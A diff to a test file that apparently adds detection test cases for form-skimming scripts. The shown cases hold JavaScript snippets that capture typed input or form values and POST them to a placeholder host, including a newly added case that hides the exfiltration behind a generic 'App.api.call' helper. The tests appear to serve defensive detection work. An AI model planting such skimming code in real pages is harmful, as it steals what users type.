@@ -81,6 +81,11 @@ test.each<[string, ...string[]]>([
     `const { readable, writable } = new TransformStream(); const to = writable.getWriter(); fetch('${HOST}', { method: 'POST', body: readable }); ${ON} to.write(${VALUE}); });`,
   ],
   [
+    'a method that is called `call`, of another script',
+    `var App = App || {}; App.api = { call: function (path, body) { fetch('${HOST}/' + path, { method: 'POST', body: JSON.stringify(body) }); } };`,
+    `${ON} App.api.call('forms', { text: ${VALUE} }); });`,
+  ],
+  [
     'a helper that is told which events are heard',
     'const listen = { on(node, names, fn) { names.split(" ").forEach((name) => node.addEventListener(name, fn)); } };',
     `let last = ''; listen.on(document, 'input change', (e) => { last = e.target.value; }); ${send('last')}`,
